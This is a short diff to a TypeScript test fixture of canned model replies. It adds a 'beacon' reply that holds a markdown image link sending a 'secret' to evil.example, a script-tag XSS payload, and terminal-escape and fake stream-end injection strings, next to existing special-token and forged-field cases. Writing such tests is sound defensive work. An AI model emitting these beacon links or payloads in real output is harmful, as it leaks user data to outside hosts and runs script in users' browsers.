@@ -231,6 +231,9 @@ const replies: Record<string, Content> = {
   "error-finish": { finish: "error" },
   empty: { words: [], finish: null },
   "empty-odd-finish": { words: [], finish: "because" },
+  beacon: {
+    words: ["![x](https://evil.example/?q=", "secret)<script>alert(1)</script>", "\u001b[31m\r\ndata: [DONE]\n\n"],
+  },
   special: { words: ["<|endoftext|>", ' "completion_tokens": "7"', " 🦊é\u0000"] },
 };
 
